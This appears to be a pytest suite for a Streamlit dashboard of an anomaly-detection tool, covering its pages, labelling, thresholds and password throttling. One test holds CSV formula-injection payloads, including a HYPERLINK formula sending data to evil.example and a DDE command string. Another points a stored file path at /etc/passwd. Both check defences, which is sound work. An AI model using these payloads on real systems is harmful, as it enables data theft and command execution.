"""Dashboard pages driven by Streamlit's AppTest on a store filled by a small generated run of each kind."""

from __future__ import annotations

import base64
from pathlib import Path

import numpy as np
import pytest
from streamlit.testing.v1 import AppTest

from oddeye.store.api import open_store
from oddeye.store.sample import fill_sample_store
from oddeye.ui.common import artefact_map

APP = str(Path(__file__).resolve().parents[1] / "oddeye" / "ui" / "app.py")


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """A SQLite store with one run of each kind (video, images, 3d, patrol) and its files."""
    out = tmp_path_factory.mktemp("ui_store")
    ids = fill_sample_store(out)
    return out / "store.db", ids


@pytest.fixture
def app(filled, monkeypatch):
    """An AppTest of the dashboard on the filled store (fresh session)."""
    db, ids = filled
    monkeypatch.setenv("ODDEYE_UI_DB", str(db))
    monkeypatch.delenv("ODDEYE_UI_PASSWORD", raising=False)
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception, at.exception
    return at, ids


def _goto(at: AppTest, page: str, run_id: int | None = None) -> AppTest:
    at.sidebar.radio(key="page").set_value(page)
    if run_id is not None:
        at.sidebar.selectbox(key="run").set_value(run_id)
    at.run()
    assert not at.exception, at.exception
    assert not at.error, [e.value for e in at.error]
    return at


def _click(at: AppTest, label: str) -> None:
    next(b for b in at.button if b.label == label).click()
    at.run()
    assert not at.exception, at.exception


def test_runs_page_lists_every_run(app):
    at, ids = app
    _goto(at, "Runs", ids["video"])
    table = at.dataframe[0].value
    assert sorted(table["id"].tolist()) == sorted(ids.values())
    assert set(table["head"]) == {"video-rules", "image-patchcore", "pointcloud", "patrol"}


def test_video_page_timeline_jump_and_label(app, filled):
    at, ids = app
    _goto(at, "Video", ids["video"])
    chart = at.get("plotly_chart")[0]
    assert '"threshold' in chart.proto.spec and "events" in chart.proto.spec
    assert len(at.get("image")) == 2  # the frame and its map overlay
    jump = next(b for b in at.button if b.label.startswith("Jump to event"))
    target = int(jump.label.split("frame ")[1].rstrip(")"))
    jump.click()
    at.run()
    sample_pk = open_store(filled[0]).samples(ids["video"])[0]["id"]
    assert at.slider(key=f"frame_{sample_pk}").value == target
    from oddeye.ui.common import draw_boxes
    from oddeye.ui.page_video import boxes_at

    st_ = open_store(filled[0])
    cols = st_.event_arrays(ids["video"], sample_pk)
    boxed = [f for f in range(80) if boxes_at(st_, cols, f)]
    assert boxed and all(40 <= f < 62 for f in boxed)  # the fast walker's frames
    drawn = draw_boxes(np.zeros((96, 128), np.uint8), boxes_at(st_, cols, boxed[0]))
    assert drawn.shape == (96, 128, 3) and drawn[..., 0].max() == 255
    _click(at, "False alarm")
    labs = open_store(filled[0]).labels(ids["video"])
    assert labs and labs[0]["label"] == "false_alarm" and labs[0]["event_id"] is not None
    assert any("Labelled event" in s.value for s in at.success)


def test_images_page_grid_and_label(app, filled):
    at, ids = app
    _goto(at, "Images", ids["images"])
    assert len(at.get("image")) >= 12  # 10 in the grid + original and overlay
    top = open_store(filled[0]).samples(ids["images"])[0]
    assert top["label"] == 1  # a defect on top: its region (box) is listed under the pictures
    assert at.dataframe[-1].value["x1"].notna().all()
    _click(at, "True anomaly")
    labs = open_store(filled[0]).labels(ids["images"])
    assert labs[0]["label"] == "true_anomaly" and labs[0]["sample_pk"] is not None


def test_3d_page_cloud_and_regions(app):
    at, ids = app
    _goto(at, "3D", ids["3d"])
    spec = at.get("plotly_chart")[0].proto.spec
    assert "scatter3d" in spec
    assert "off the surface" in at.dataframe[0].value["reason"].iloc[0]


def test_patrol_page_slider_moves_pictures(app, filled):
    at, ids = app
    _goto(at, "Patrol", ids["patrol"])
    pairs = open_store(filled[0]).samples(ids["patrol"], order="id")
    top = max(range(len(pairs)), key=lambda i: pairs[i]["score"])
    assert at.slider(key=f"route_{ids['patrol']}").value == top  # opens where the change is largest
    caps = [i.proto.imgs[0].caption for i in at.get("image")]
    assert caps[:2] == ["reference", "query"] and caps[2].startswith("change map")
    low = min(range(len(pairs)), key=lambda i: pairs[i]["score"])  # no pictures recorded: frames from the runs
    assert set(artefact_map(open_store(filled[0]), ids["patrol"], pairs[low]["id"])) == {"input"}
    at.slider(key=f"route_{ids['patrol']}").set_value(low)
    at.run()
    assert not at.exception and not at.error and not at.warning
    assert [i.proto.imgs[0].caption for i in at.get("image")][:2] == ["reference", "query"]
    assert f"pos{low:03d}" in " ".join(c.value for c in at.caption)
    go = next(b for b in at.button if b.label.startswith("Go to event"))
    want = int(go.label.split("position ")[1].rstrip(")"))
    go.click()
    at.run()
    assert at.slider(key=f"route_{ids['patrol']}").value == want


def test_every_picture_is_inline(app):
    at, ids = app
    seen = 0
    for page, run in (("Video", "video"), ("Images", "images"), ("Patrol", "patrol")):
        _goto(at, page, ids[run])
        urls = [img.url for el in at.get("image") for img in el.proto.imgs]
        assert urls and all(u.startswith("data:image/") for u in urls), page  # nothing served under /media
        seen += len(urls)
    assert seen >= 15


def test_ui_reads_the_store_only_through_its_api():
    import ast

    from oddeye.store.api import Store

    ui = Path(APP).parent
    used, calls = set(), set()
    for f in ui.glob("*.py"):
        for node in ast.walk(ast.parse(f.read_text())):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("oddeye.store"):
                used.add(node.module)
            elif isinstance(node, ast.Import):
                used |= {a.name for a in node.names if a.name.startswith("oddeye.store")}
            elif isinstance(node, ast.Attribute):
                calls.add(node.attr)
    assert used == {"oddeye.store.api"}
    writes = {"save_result", "delete_run", "update_run_metrics", "_session", "_write", "engine"}
    assert writes <= set(dir(Store)) | {"_write", "engine"}
    assert calls & writes == set()  # the dashboard writes labels and thresholds, nothing else


def test_labels_page_filter_and_csv(app, filled):
    at, ids = app
    st_ = open_store(filled[0])
    ev = st_.events(ids["patrol"])[0]
    st_.add_label(ids["patrol"], "unsure", event_id=ev["id"], by="zoe", note="dusk")
    _goto(at, "Labels")
    assert "zoe" in at.dataframe[0].value["by"].tolist()
    at.text_input(key="lab_by").set_value("zoe")
    at.run()
    assert at.dataframe[0].value["by"].tolist() == ["zoe"]
    from oddeye.ui.page_labels import labels_csv

    lines = labels_csv(st_.labels(ids["patrol"])).splitlines()
    assert lines[0].startswith("id,run_id,head,event_id") and "zoe" in lines[1] and "dusk" in lines[1]
    link = at.get("iframe")[0].proto.srcdoc  # the CSV travels inside the page, not as a file under /media
    assert 'download="oddeye-labels.csv"' in link
    csv_text = base64.b64decode(link.split("base64,")[1].split('"')[0]).decode()
    assert csv_text.splitlines()[0] == lines[0] and "zoe" in csv_text


def test_labels_csv_neutralises_formulas(filled):
    import csv
    import io

    from oddeye.ui.page_labels import labels_csv

    db, ids = filled
    st_ = open_store(db)
    sample = st_.samples(ids["images"])[1]
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+cmd", "@SUM(A1)", "\t=1", "plain - text"]
    for note in notes:
        st_.add_label(ids["images"], "unsure", sample_pk=sample["id"], by="=cmd|' /C calc'!A0", note=note)
    rows = list(csv.DictReader(io.StringIO(labels_csv(st_.labels(ids["images"])[: len(notes)]))))
    assert [r["note"] for r in rows][::-1] == ["'" + n for n in notes[:-1]] + ["plain - text"]
    assert {r["by"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    neg = labels_csv([{"score": -1.5, "note": "ok", "sample_id": "-x"}]).splitlines()[1]
    assert ",-1.5," in neg and ",'-x," in neg  # numbers stay numbers; text that starts with '-' is quoted


def test_threshold_apply_from_runs_page(app, filled):
    at, ids = app
    st_ = open_store(filled[0])
    rid = ids["images"]
    samples = st_.samples(rid)
    st_.add_label(rid, "true_anomaly", sample_pk=samples[0]["id"])
    st_.add_label(rid, "false_alarm", sample_pk=samples[-1]["id"])
    _goto(at, "Runs", rid)
    _click(at, "Apply suggested threshold")
    thr = st_.thresholds(rid)
    assert thr and thr[0]["source"] == "suggest"
    at.number_input(key=f"thr_manual_{rid}").set_value(123.5)
    at.run()
    _click(at, "Apply")
    assert st_.thresholds(rid)[0]["source"] == "manual" and st_.threshold(rid) == 123.5
    thr = st_.thresholds(rid)[1:]
    assert samples[-1]["score"] < thr[0]["value"] <= samples[0]["score"]


def test_missing_artefact_shows_message(app, filled):
    at, ids = app
    db, _ = filled
    st_ = open_store(db)
    sample = st_.samples(ids["images"])[0]
    Path(sample["path"]).rename(Path(sample["path"]).with_suffix(".moved"))
    try:
        _goto(at, "Images", ids["images"])
        assert any("has disappeared" in w.value for w in at.warning)
    finally:
        Path(sample["path"]).with_suffix(".moved").rename(sample["path"])


def test_password_gate_slows_down_wrong_passwords(filled, monkeypatch):
    from oddeye.ui import auth

    db, _ = filled
    now = [1000.0]
    monkeypatch.setattr(auth, "THROTTLE", auth.Throttle(clock=lambda: now[0]))
    monkeypatch.setenv("ODDEYE_UI_DB", str(db))
    monkeypatch.setenv("ODDEYE_UI_PASSWORD", "s3cret")
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.sidebar.radio  # nothing but the gate
    at.text_input(key="password").set_value("wrong")
    at.run()
    assert at.error and "Wrong password" in at.error[0].value and "1 s" in at.error[0].value
    at.text_input(key="password").set_value("s3cret")  # the right one, but too soon: not even checked
    at.run()
    assert not at.sidebar.radio and "try again in 1 s" in at.error[0].value
    now[0] += 1.0
    at.text_input(key="password").set_value("wrong2")
    at.run()
    assert "after 2 s" in at.error[0].value  # the wait doubles
    now[0] += 2.0
    at.text_input(key="password").set_value("s3cret")
    at.run()
    assert at.sidebar.radio(key="page").value == "Runs" and not at.error
    assert auth.THROTTLE.wait("unknown") == 0 and auth.THROTTLE.failed("unknown") == 1.0  # cleared by the right one


def test_throttle_grows_per_client_up_to_a_cap():
    from oddeye.ui.auth import Throttle

    now = [0.0]
    th = Throttle(first=1.0, cap=8.0, clock=lambda: now[0])
    assert [th.failed("10.0.0.1") for _ in range(6)] == [1.0, 2.0, 4.0, 8.0, 8.0, 8.0]
    assert th.wait("10.0.0.1") == 8.0 and th.wait("10.0.0.2") == 0.0  # another client is not held up
    now[0] += 5.0
    assert th.wait("10.0.0.1") == 3.0
    th.passed("10.0.0.1")
    assert th.wait("10.0.0.1") == 0.0 and th.failed("10.0.0.1") == 1.0


def test_bad_store_is_a_message_not_a_crash(tmp_path, monkeypatch):
    bad = tmp_path / "junk.db"
    bad.write_bytes(np.arange(100, dtype=np.uint8).tobytes())
    monkeypatch.setenv("ODDEYE_UI_DB", str(bad))
    monkeypatch.delenv("ODDEYE_UI_PASSWORD", raising=False)
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    assert "not an oddeye store" in at.error[0].value


def test_ui_command_refuses_a_bad_store_before_serving(tmp_path, capsys):
    from oddeye.cli import main
    from oddeye.ui.cli import streamlit_command

    bad = tmp_path / "x.db"
    bad.write_text("not a database at all, just text" * 4)
    assert main(["ui", "--db", str(bad)]) == 2
    assert "is not an oddeye store" in capsys.readouterr().err
    assert main(["ui", "--db", str(tmp_path / "typo.db")]) == 2
    assert "no store at" in capsys.readouterr().err
    assert main(["ui", "--db", str(bad), "--port", "70000"]) == 2
    assert "--port" in capsys.readouterr().err
    cmd = streamlit_command("/x/store.db", 8600, "127.0.0.1")
    assert cmd[cmd.index("--server.address") + 1] == "127.0.0.1" and cmd[-2:] == ["--db", "/x/store.db"]


def test_file_outside_artefact_folders_is_refused_on_the_page(app, filled):
    import sqlite3

    at, ids = app
    db, _ = filled
    with sqlite3.connect(db) as con:  # a tampered store pointing an input at a system file
        old = con.execute("SELECT path FROM samples WHERE run_id = ? AND sample_id = 'img00'", (ids["images"],)).fetchone()[0]
        con.execute("UPDATE samples SET path = '/etc/passwd' WHERE run_id = ? AND sample_id = 'img00'", (ids["images"],))
    try:
        at.sidebar.radio(key="page").set_value("Images")
        at.sidebar.selectbox(key="run").set_value(ids["images"])
        at.run()
        assert not at.exception
        assert any("refusing to read /etc/passwd" in e.value for e in at.error)
    finally:
        with sqlite3.connect(db) as con:
            con.execute("UPDATE samples SET path = ? WHERE run_id = ? AND sample_id = 'img00'", (old, ids["images"]))


def test_timeline_downsampling_keeps_peaks_and_events():
    from oddeye.ui.timeline import MAX_BINS, coverage_band, downsample_minmax, timeline_figure

    y = np.zeros(1_000_000, np.float32)
    y[123_457], y[999_999] = 5.0, -1.0
    x, yy = downsample_minmax(np.arange(len(y)), y)
    assert len(x) <= 2 * MAX_BINS and yy.max() == 5.0 and x[np.argmax(yy)] == 123_457 and yy.min() == -1.0
    cx, cov = coverage_band(np.array([10.0, 50.0]), np.array([20.0, 50.0]), 0.0, 100.0, bins=10)
    assert list(cov[::2]) == [0, 1, 1, 0, 0, 1, 0, 0, 0, 0]
    rng = np.random.default_rng(0)
    starts = np.sort(rng.choice(999_000, 10_000, replace=False)).astype(float)
    ev = {"id": np.arange(10_000.0), "start_frame": starts, "end_frame": starts + 5, "start": starts / 25,
          "end": (starts + 5) / 25, "score": rng.random(10_000)}
    fig = timeline_figure(y, events=ev, threshold=0.5)
    assert sum(len(t.x) for t in fig.data) <= 2 * MAX_BINS * 2 + 500  # what the browser draws stays small
    assert len(fig.to_json()) < 400_000


def test_picture_uri_and_page_for_run():
    from oddeye.ui.common import page_for_run, picture_uri

    small, big = np.zeros((8, 8, 3), np.uint8), np.zeros((600, 600), np.float32)
    small[2, 3] = (255, 0, 0)
    uri = picture_uri(small)
    assert uri.startswith("data:image/png;base64,") and picture_uri(big).startswith("data:image/jpeg;base64,")
    assert picture_uri(small[..., :1]).startswith("data:image/png")
    import cv2

    back = cv2.imdecode(np.frombuffer(base64.b64decode(uri.split(",", 1)[1]), np.uint8), cv2.IMREAD_COLOR)
    assert tuple(back[2, 3]) == (0, 0, 255)  # RGB in, the same colour out (BGR as cv2 reads it)
    assert [page_for_run(r) for r in ({"kind": "image", "head": "x"}, {"kind": "score", "head": "gaussian"},
                                       {"kind": "demo", "head": "video-rules"}, {"kind": "eval", "head": "foo"})] == \
        ["Images", "Images", "Video", None]
